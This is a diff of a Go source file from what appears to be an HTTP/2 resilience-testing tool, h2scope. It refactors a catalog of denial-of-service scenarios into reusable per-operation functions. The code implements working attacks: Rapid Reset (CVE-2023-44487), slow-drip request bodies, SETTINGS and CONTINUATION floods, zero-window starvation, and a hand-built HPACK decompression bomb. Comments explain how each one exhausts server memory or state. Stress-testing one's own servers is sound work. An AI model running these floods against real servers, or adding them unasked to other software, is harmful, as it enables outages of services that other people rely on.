@@ -1,29 +1,67 @@
 package attack
 
 import (
+	"fmt"
 	"time"
 
 	"h2scope/internal/frame"
 	"h2scope/internal/h2conn"
 )
 
-// scenario is one catalog entry: connection options plus the per-connection
-// attack loop. run returns nil when the deadline ended the loop and an
-// error when the connection died first (the server killed it, typically).
+// scenario is one catalog entry: the options its attacker connections dial
+// with, and start, which readies one connection and returns the attack's
+// operation. op(i) sends operation i (from 0) on that connection; a driver
+// calls it for i = 0, 1, 2, …: the Runner paced until its deadline, Burst a
+// fixed number of times, unpaced. The catalog is the only place an attack
+// shape is written.
 type scenario struct {
-	options func(p Params) h2conn.Options
-	run     func(c *h2conn.Conn, p Params, deadline time.Time, pace *pacer, t *tally) error
+	options func() h2conn.Options
+	start   func(c *h2conn.Conn, p Params) (op func(i int64) error)
+	// hold marks a scenario whose harm is the held connection, not the
+	// pace: the Runner sends Rate operations at once, then keeps the
+	// connection open until the deadline.
+	hold bool
 }
 
-func defaultScenarioOptions(Params) h2conn.Options { return h2conn.DefaultOptions() }
-
 var scenarios = map[Kind]scenario{
-	KindRapidReset:        {options: defaultScenarioOptions, run: runRapidReset},
-	KindSlowDrip:          {options: defaultScenarioOptions, run: runSlowDrip},
-	KindSettingsFlood:     {options: defaultScenarioOptions, run: runSettingsFlood},
-	KindZeroWindowStarve:  {options: zeroWindowOptions, run: runZeroWindowStarve},
-	KindHPACKBomb:         {options: defaultScenarioOptions, run: runHPACKBomb},
-	KindContinuationFlood: {options: continuationFloodOptions, run: runContinuationFlood},
+	KindRapidReset:        {options: h2conn.DefaultOptions, start: rapidReset},
+	KindSlowDrip:          {options: h2conn.DefaultOptions, start: slowDrip},
+	KindSettingsFlood:     {options: h2conn.DefaultOptions, start: settingsFlood},
+	KindZeroWindowStarve:  {options: zeroWindowOptions, start: zeroWindowStarve, hold: true},
+	KindHPACKBomb:         {options: h2conn.DefaultOptions, start: hpackBomb},
+	KindContinuationFlood: {options: continuationFloodOptions, start: continuationFlood},
+}
+
+// Options returns the connection options the attacker connections of kind,
+// one of Kinds, dial with; Burst expects a connection dialed with them.
+func Options(kind Kind) h2conn.Options { return scenarios[kind].options() }
+
+// Burst runs kind's operation ops times on c, back to back — the loop the
+// Runner paces, cut to a fixed count. It returns how many operations were
+// sent and the write error that stopped the burst early, if one did.
+func Burst(c *h2conn.Conn, kind Kind, p Params, ops int64) (sent int64, err error) {
+	scn, ok := scenarios[kind]
+	if !ok {
+		return 0, fmt.Errorf("attack: unknown scenario %q", kind)
+	}
+	return scn.send(c, p.withDefaults(kind), ops, nil, time.Time{})
+}
+
+// send calls the scenario's operation on c up to n times, waiting on pace
+// between operations when pace is non-nil. It returns the operations sent
+// and the write error that ended the loop; nil when n or the deadline did.
+func (s scenario) send(c *h2conn.Conn, p Params, n int64, pace *pacer, deadline time.Time) (int64, error) {
+	op := s.start(c, p)
+	for sent := int64(0); sent < n; {
+		if err := op(sent); err != nil {
+			return sent, err
+		}
+		sent++
+		if pace != nil && !pace.wait(deadline) {
+			return sent, nil
+		}
+	}
+	return n, nil
 }
 
 // continuationFloodOptions disables the automatic SETTINGS/PING acks: the
@@ -31,114 +69,77 @@ var scenarios = map[Kind]scenario{
 // forbids any other frame (even an ACK) on the connection until it ends —
 // an auto-ack mid-flood would end the attack with PROTOCOL_ERROR instead
 // of exercising the server's CONTINUATION bound.
-func continuationFloodOptions(Params) h2conn.Options {
+func continuationFloodOptions() h2conn.Options {
 	return h2conn.Options{}
 }
 
-// runRapidReset is the CVE-2023-44487 shape: open a stream, reset it
-// immediately, repeat. Each cycle costs the attacker two tiny frames and
-// the server a full stream setup/teardown.
-func runRapidReset(c *h2conn.Conn, p Params, deadline time.Time, pace *pacer, t *tally) error {
+// rapidReset is the CVE-2023-44487 shape: open a stream, reset it
+// immediately. Each operation costs the attacker two tiny frames and the
+// server a full stream setup/teardown.
+func rapidReset(c *h2conn.Conn, p Params) func(int64) error {
 	req := h2conn.Request{Authority: p.Authority, Path: p.Path}
-	for {
+	return func(int64) error {
 		id, err := c.OpenStream(req)
 		if err != nil {
-			t.errors++
 			return err
 		}
-		if err := c.WriteRSTStream(id, frame.ErrCodeCancel); err != nil {
-			t.errors++
-			return err
-		}
-		t.ops++
-		if !pace.wait(deadline) {
-			return nil
-		}
+		return c.WriteRSTStream(id, frame.ErrCodeCancel)
 	}
 }
 
 // slowDripStreams is how many request bodies one drip connection holds open.
 const slowDripStreams = 4
 
-// runSlowDrip opens a handful of request bodies and feeds them one byte at
-// a time, round-robin — each stream stays perpetually almost-finished,
-// pinning server state at negligible attacker cost.
-func runSlowDrip(c *h2conn.Conn, p Params, deadline time.Time, pace *pacer, t *tally) error {
+// slowDrip feeds up to slowDripStreams request bodies one byte at a time,
+// round-robin, opening each body with its first byte — each stream stays
+// perpetually almost-finished, pinning server state at negligible attacker
+// cost. A burst of n < slowDripStreams drips holds n bodies open.
+func slowDrip(c *h2conn.Conn, p Params) func(int64) error {
 	req := h2conn.Request{Method: "POST", Authority: p.Authority, Path: p.Path}
 	ids := make([]uint32, 0, slowDripStreams)
-	for i := 0; i < slowDripStreams; i++ {
-		id, err := c.OpenStreamBody(req)
-		if err != nil {
-			t.errors++
-			return err
-		}
-		ids = append(ids, id)
-	}
 	drip := []byte{'.'}
-	for i := 0; ; i++ {
-		if err := c.WriteData(ids[i%len(ids)], false, drip); err != nil {
-			t.errors++
-			return err
+	return func(i int64) error {
+		if len(ids) < slowDripStreams {
+			id, err := c.OpenStreamBody(req)
+			if err != nil {
+				return err
+			}
+			ids = append(ids, id)
 		}
-		t.ops++
-		if !pace.wait(deadline) {
-			return nil
-		}
+		return c.WriteData(ids[i%slowDripStreams], false, drip)
 	}
 }
 
-// runSettingsFlood streams non-ACK SETTINGS frames; RFC 7540 obligates the
+// settingsFlood sends non-ACK SETTINGS frames; RFC 7540 obligates the
 // server to acknowledge and apply every one.
-func runSettingsFlood(c *h2conn.Conn, p Params, deadline time.Time, pace *pacer, t *tally) error {
-	for {
-		if err := c.WriteSettings(frame.Setting{
+func settingsFlood(c *h2conn.Conn, _ Params) func(int64) error {
+	return func(int64) error {
+		return c.WriteSettings(frame.Setting{
 			ID:  frame.SettingInitialWindowSize,
 			Val: frame.DefaultInitialWindowSize,
-		}); err != nil {
-			t.errors++
-			return err
-		}
-		t.ops++
-		if !pace.wait(deadline) {
-			return nil
-		}
+		})
 	}
 }
 
 // zeroWindowOptions advertises a zero stream window, so the server can
 // never send response DATA on any stream the scenario opens.
-func zeroWindowOptions(Params) h2conn.Options {
+func zeroWindowOptions() h2conn.Options {
 	return h2conn.Options{
-		Settings:        []frame.Setting{{ID: frame.SettingInitialWindowSize, Val: 0}},
-		AutoSettingsAck: true,
-		AutoPingAck:     true,
+		Settings: []frame.Setting{{ID: frame.SettingInitialWindowSize, Val: 0}},
+		AutoAck:  true,
 	}
 }
 
-// runZeroWindowStarve requests resources it never allows the server to
+// zeroWindowStarve requests a resource it never allows the server to
 // deliver: the zero window pins every response (and its buffers) for the
-// connection's whole lifetime. Rate is repurposed as the stream count.
-func runZeroWindowStarve(c *h2conn.Conn, p Params, deadline time.Time, _ *pacer, t *tally) error {
+// connection's whole lifetime. It is a hold scenario, so Rate is the
+// stream count, not a pace.
+func zeroWindowStarve(c *h2conn.Conn, p Params) func(int64) error {
 	req := h2conn.Request{Authority: p.Authority, Path: p.Path}
-	n := int(p.Rate)
-	if n < 1 {
-		n = 1
+	return func(int64) error {
+		_, err := c.OpenStream(req)
+		return err
 	}
-	for i := 0; i < n; i++ {
-		if _, err := c.OpenStream(req); err != nil {
-			t.errors++
-			return err
-		}
-		t.ops++
-	}
-	// Hold the connection open, never sending WINDOW_UPDATE.
-	for time.Now().Before(deadline) {
-		if err := c.ReadErr(); err != nil {
-			return err
-		}
-		time.Sleep(20 * time.Millisecond)
-	}
-	return nil
 }
 
 // bombValueLen and bombRefs shape the default HPACK bomb: one ~3KB entry
@@ -149,25 +150,17 @@ const (
 	bombRefs     = 12000
 )
 
-// runHPACKBomb sends the bomb block as a complete request header block; a
+// hpackBomb sends the bomb block as a complete request header block; a
 // guarded decoder rejects it with COMPRESSION_ERROR, an unguarded one
 // materializes megabytes per request.
-func runHPACKBomb(c *h2conn.Conn, p Params, deadline time.Time, pace *pacer, t *tally) error {
-	block := HPACKBombBlock(bombValueLen, bombRefs)
-	for {
-		id := c.NextStreamID()
-		if err := c.WriteHeadersRaw(id, block, true, true); err != nil {
-			t.errors++
-			return err
-		}
-		t.ops++
-		if !pace.wait(deadline) {
-			return nil
-		}
+func hpackBomb(c *h2conn.Conn, _ Params) func(int64) error {
+	block := hpackBombBlock(bombValueLen, bombRefs)
+	return func(int64) error {
+		return c.WriteHeadersRaw(c.NextStreamID(), block, true, true)
 	}
 }
 
-// HPACKBombBlock builds an encoded header block that inserts one
+// hpackBombBlock builds an encoded header block that inserts one
 // valueLen-byte entry into the dynamic table (literal with incremental
 // indexing) and then references it refs times (indexed representation,
 // index 62 — the newest dynamic entry). The block amplifies roughly
@@ -175,7 +168,7 @@ func runHPACKBomb(c *h2conn.Conn, p Params, deadline time.Time, pace *pacer, t *
 // valueLen must leave the entry within the peer's dynamic table size
 // (value + name + 32 octets, RFC 7541 section 4.1) or the references fail
 // outright instead of amplifying.
-func HPACKBombBlock(valueLen, refs int) []byte {
+func hpackBombBlock(valueLen, refs int) []byte {
 	block := make([]byte, 0, valueLen+refs+16)
 	// Literal header field with incremental indexing, new name (0x40).
 	block = append(block, 0x40)
@@ -212,26 +205,17 @@ func appendHpackInt(dst []byte, prefixBits uint8, first byte, n uint64) []byte {
 // continuationChunk is the per-frame fragment size of the flood.
 const continuationChunk = 1024
 
-// runContinuationFlood starts a header block and never finishes it: an
-// endless CONTINUATION sequence the server must either buffer or bound.
-// The fragment bytes are never decoded (END_HEADERS never arrives), so
-// their content is irrelevant.
-func runContinuationFlood(c *h2conn.Conn, p Params, deadline time.Time, pace *pacer, t *tally) error {
+// continuationFlood starts a header block and never finishes it: operation
+// 0 is the HEADERS frame, every later one a CONTINUATION, an endless
+// sequence the server must either buffer or bound. The fragment bytes are
+// never decoded (END_HEADERS never arrives), so their content is irrelevant.
+func continuationFlood(c *h2conn.Conn, _ Params) func(int64) error {
 	frag := make([]byte, continuationChunk)
 	id := c.NextStreamID()
-	if err := c.WriteHeadersRaw(id, frag, false, false); err != nil {
-		t.errors++
-		return err
-	}
-	t.ops++
-	for {
-		if !pace.wait(deadline) {
-			return nil
+	return func(i int64) error {
+		if i == 0 {
+			return c.WriteHeadersRaw(id, frag, false, false)
 		}
-		if err := c.WriteRawFrame(frame.TypeContinuation, 0, id, frag); err != nil {
-			t.errors++
-			return err
-		}
-		t.ops++
+		return c.WriteRawFrame(frame.TypeContinuation, 0, id, frag)
 	}
 }
